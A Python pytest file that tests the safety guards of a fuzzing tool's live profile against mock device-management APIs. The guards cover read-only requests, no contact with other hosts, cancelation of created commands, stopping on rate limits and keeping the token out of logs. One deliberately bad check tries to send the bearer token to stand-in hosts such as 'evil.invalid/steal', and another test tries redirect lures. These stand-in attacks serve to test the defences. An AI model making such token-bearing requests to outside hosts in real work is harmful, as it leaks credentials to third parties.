"""Whole runs with the live profile: what reaches the endpoint, and that nothing reaches anything else."""

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import click
import pytest
import requests
from kit import NOON
from recording import Arrived, recording, reply
from starlette.types import Receive, Scope, Send

import fleetmock_contracts
from fleetmock.app import create_app
from fleetmock.contract.middleware import Application
from fleetmock.fleet.clock import Clock
from fleetmock.server import ThreadedServer
from fleetmock.settings import Settings
from fleetmock_tooling.errors import CannotRun
from fleetmock_tooling.fuzz import run as run_module
from fleetmock_tooling.fuzz import session
from fleetmock_tooling.fuzz.checks import Suite, check, registry
from fleetmock_tooling.fuzz.checks.prober import Prober
from fleetmock_tooling.fuzz.command import command
from fleetmock_tooling.fuzz.options import Options
from fleetmock_tooling.fuzz.profiles import LIVE

TOKEN = "live-token-0123456789abcdef"
APPLE = "/v1/organizations/507f1f77bcf86cd799439012/mdm/apple/enterprise/commands/device/507f1f77bcf86cd799439014"
QUICK = replace(LIVE, rate=None, budget=2000)


@dataclass
class Seen:
    """A mock on a socket, and what reached it: method, path, Authorization."""

    url: str = ""
    arrived: list[tuple[str, str, str]] = field(default_factory=list)

    def posts(self) -> list[str]:
        return [path for method, path, _ in self.arrived if method == "POST"]


class Watched(Application):
    def __init__(self, app: Application, seen: Seen) -> None:
        vars(self).update(vars(app))
        self._app = app
        self._seen = seen

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            headers = {name.decode(): value.decode() for name, value in scope["headers"]}
            self._seen.arrived.append((scope["method"], scope["raw_path"].decode(), headers.get("authorization", "")))
        await self._app(scope, receive, send)


@contextmanager
def mock_of(api: str) -> Iterator[Seen]:
    seen = Seen()
    app = create_app(Settings(apis=(api,), tokens=(TOKEN,), log_format="off"), Clock(frozen_at=NOON))
    with ThreadedServer(app=Watched(app, seen)) as server:
        seen.url = server.url
        yield seen


@pytest.fixture
def contacted(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, int]]:
    """Every address that a socket of this process was connected to; looking a name up is an error."""
    addresses = []
    connect = socket.socket.connect

    def recorded(self: socket.socket, address: Any) -> None:
        addresses.append((str(address[0]), int(address[1])))
        connect(self, address)

    look_up = socket.getaddrinfo

    def local_only(host: Any, *rest: Any, **how: Any) -> Any:
        assert host in ("127.0.0.1", b"127.0.0.1"), f"{host} was looked up"
        return look_up(host, *rest, **how)

    monkeypatch.setattr(socket.socket, "connect", recorded)
    monkeypatch.setattr(socket, "getaddrinfo", local_only)
    return addresses


def run(api: str, url: str, **how: Any) -> int:
    options = Options(TOKEN, 1, how.pop("profile", QUICK), discover=True, confirm=True, undo_readings=True, **how)
    return session.run({api: fleetmock_contracts.load(api)}, url, options, allow_remote=False)


@pytest.mark.parametrize("api", fleetmock_contracts.APIS)
def test_a_live_run_reads_with_the_token_and_nothing_else(
    api: str, contacted: list[tuple[str, int]], capsys: pytest.CaptureFixture[str]
) -> None:
    with mock_of(api) as mock:
        assert run(api, mock.url) == 0, capsys.readouterr().out
        port = urlsplit(mock.url).port
    tested = [each for each in mock.arrived if each[2]]
    assert len(tested) > 20
    assert {method for method, _, _ in mock.arrived} == {"GET"}
    # Whether the server is there at all is asked before, without the token.
    assert [each for each in mock.arrived if each not in tested] == [("GET", mock.arrived[0][1], "")]
    assert {authorization for _, _, authorization in tested} == {f"Bearer {TOKEN}"}
    assert set(contacted) <= {("127.0.0.1", port)}
    assert f"{api}: not tested, because the profile only reads" in capsys.readouterr().out


@contextmanager
def extra_check(monkeypatch: pytest.MonkeyPatch, probe: Callable[[Prober], Iterator[Any]]) -> Iterator[None]:
    """A check that does what no check may do, beside the real ones."""
    template = next(each for each in registry.CHECKS.values() if each.probe is not None)
    bad = replace(template, id="bad-check", probe=probe, judge=None)
    every = (*registry.CHECKS.values(), bad)
    monkeypatch.setattr(run_module, "Suite", lambda context, **how: Suite(context, every, **how))
    yield


def test_a_check_that_tries_more_is_held_back_and_the_run_says_so(
    monkeypatch: pytest.MonkeyPatch, contacted: list[tuple[str, int]], capsys: pytest.CaptureFixture[str]
) -> None:
    def greedy(prober: Prober) -> Iterator[check.Violation]:
        device = prober.contract.base_url + "/me/devices"
        for method, url in [
            ("DELETE", device),
            ("POST", f"{device}/6841b3db-2b55-467b-ad84-79a41a4ef665/commands"),
            ("GET", "http://192.0.2.1/steal"),
            ("GET", "http://evil.invalid/steal"),
        ]:
            with pytest.raises(requests.RequestException):
                requests.request(method, url, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=1)
        yield from ()

    with mock_of("msgraph") as mock, extra_check(monkeypatch, greedy):
        assert run("msgraph", mock.url) == 4
        port = urlsplit(mock.url).port
    assert {method for method, _, _ in mock.arrived} == {"GET"}
    assert set(contacted) <= {("127.0.0.1", port)}
    out = capsys.readouterr().out
    assert "4 requests that are not allowed were held back" in out
    assert "GET http://192.0.2.1/steal: another host than the one that is fuzzed\n" in out


def test_answers_cannot_lure_the_run_to_another_host(contacted: list[tuple[str, int]]) -> None:
    elsewhere = "http://evil.invalid/beta/me/devices"

    def lure(_: Arrived, handler: BaseHTTPRequestHandler) -> None:
        if len(trap.arrived) % 2:
            reply(handler, 302, {"moved": True}, {"Location": elsewhere})
        else:
            device = {"id": "d1", "name": "x", "status": "Online"}
            reply(handler, 200, {"value": [device], "@odata.nextLink": elsewhere}, {"Location": elsewhere})

    with recording(lure) as trap:
        assert run("msgraph", trap.url) in (1, 4)
        port = urlsplit(trap.url).port
    assert len(trap.arrived) > 20
    assert {each.method for each in trap.arrived} == {"GET"}
    assert set(contacted) <= {("127.0.0.1", port)}


def test_what_was_created_is_canceled_at_the_end(capsys: pytest.CaptureFixture[str]) -> None:
    with mock_of("applivery-apple") as mock:
        assert run("applivery-apple", mock.url, creates=3) != 4, capsys.readouterr().out
        posts = mock.posts()
        created = [path for path in posts if not path.endswith("/cancel")]
        canceled = [path for path in posts if path.endswith("/cancel")]
        assert len(created) == 3
        assert len(canceled) == len(set(canceled)) > 0
        # They come last. A newer command supersedes one that still waits, and that is not canceled any more.
        assert [method for method, _, _ in mock.arrived[-len(canceled) :]] == ["POST"] * len(canceled)
        assert not any("507f1f77bcf86cd799439011" in path for path in canceled)
        headers = {"Authorization": f"Bearer {TOKEN}"}
        urls = [mock.url + path.removesuffix("/cancel") for path in canceled]
        states = [requests.get(url, headers=headers, timeout=5).json()["data"]["status"] for url in urls]
    assert states[-1] == "Cancel"
    assert not {"Pending", "Awaiting"} & set(states)
    assert f"took back {states.count('Cancel')} of {len(canceled)} created things" in capsys.readouterr().err


def test_what_cannot_be_canceled_is_named(capsys: pytest.CaptureFixture[str]) -> None:
    with mock_of("msgraph") as mock:
        run("msgraph", mock.url, creates=1)
    assert len(mock.posts()) == 1
    assert "created, and nothing takes it back: POST " in capsys.readouterr().err


def test_what_was_created_is_canceled_when_the_guard_ends_the_run(capsys: pytest.CaptureFixture[str]) -> None:
    with mock_of("applivery-apple") as mock:
        assert run("applivery-apple", mock.url, creates=2, profile=replace(QUICK, budget=12)) == 4
    assert len(mock.arrived) > 12
    assert mock.posts()[-1].endswith("/cancel")
    out, err = capsys.readouterr()
    assert "the budget of 12 requests is spent" in out
    assert "took back " in err


def fuzz(*arguments: str, token: str | None = TOKEN, cwd: Path | None = None) -> subprocess.Popen[str]:
    environment = {name: value for name, value in os.environ.items() if not name.startswith("FLEETMOCK_")}
    if token is not None:
        environment["FLEETMOCK_TOKEN"] = token
    line = [str(Path(sys.executable).with_name("fleetmock")), "fuzz", *arguments]
    return subprocess.Popen(line, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment, cwd=cwd)


def finished(process: subprocess.Popen[str]) -> tuple[int, str, str]:
    out, err = process.communicate(timeout=120)
    return process.returncode, out, err


@pytest.mark.parametrize(
    ("arguments", "token", "why"),
    [
        (["--profile", "live"], TOKEN, "the live profile needs --url"),
        (["--profile", "live", "--url", "http://127.0.0.1:1"], None, "the live profile needs a token"),
        (["--profile", "live", "--url", "https://graph.microsoft.com", "--ids", "none.yaml"], TOKEN, "none.yaml"),
        (["--allow-create", "1"], TOKEN, "--allow-create is for the live profile"),
        (["--write-baseline"], TOKEN, "--write-baseline needs --baseline"),
        (["--shard", "4/3"], TOKEN, "--shard 4/3"),
    ],
)
def test_arguments_that_do_not_go_together_are_refused(
    arguments: Sequence[str], token: str | None, why: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    if token is not None:
        monkeypatch.setenv("FLEETMOCK_TOKEN", token)
    with pytest.raises((CannotRun, click.UsageError), match=why):
        command.main(["msgraph", *arguments], standalone_mode=False)
    assert list(tmp_path.iterdir()) == []


def test_a_real_process_stops_at_the_first_429_and_leaves_an_audit(tmp_path: Path) -> None:
    def busy(_: Arrived, handler: BaseHTTPRequestHandler) -> None:
        reply(handler, 429, {"error": {"code": "TooManyRequests", "message": TOKEN}}, {"Retry-After": "60"})

    with recording(busy) as server:
        code, out, err = finished(fuzz("msgraph", "--profile", "live", "--url", server.url, cwd=tmp_path))
    assert code == 4
    # The first asks whether somebody is there, without the token.
    assert len(server.arrived) == 2
    assert "the endpoint answered 429" in out
    lines = [json.loads(line) for line in (tmp_path / "fleetmock-audit.jsonl").read_text().splitlines()]
    assert [line["event"] for line in lines[:2]] == ["sent", "answered"]
    assert lines[0]["url"] == f"{server.url}/beta/me/devices"
    assert lines[1]["status"] == 429
    assert TOKEN not in out + err + (tmp_path / "fleetmock-audit.jsonl").read_text()


def test_an_interrupted_process_cancels_what_it_created(tmp_path: Path) -> None:
    with mock_of("applivery-apple") as mock:
        process = fuzz(
            *("applivery-apple", "--profile", "live", "--url", mock.url, "--allow-create", "1", "--rate", "20"),
            cwd=tmp_path,
        )
        wait_until(lambda: bool(mock.posts()), process)
        process.send_signal(signal.SIGINT)
        code, _, err = finished(process)
    assert code == 130
    assert len(mock.posts()) == 2
    assert mock.posts()[-1].endswith("/cancel")
    assert "took back 1 of 1" in err


def wait_until(happened: Callable[[], bool], process: subprocess.Popen[str]) -> None:
    ticks = threading.Event()
    end = time.monotonic() + 60
    while not happened():
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < end
        ticks.wait(0.02)
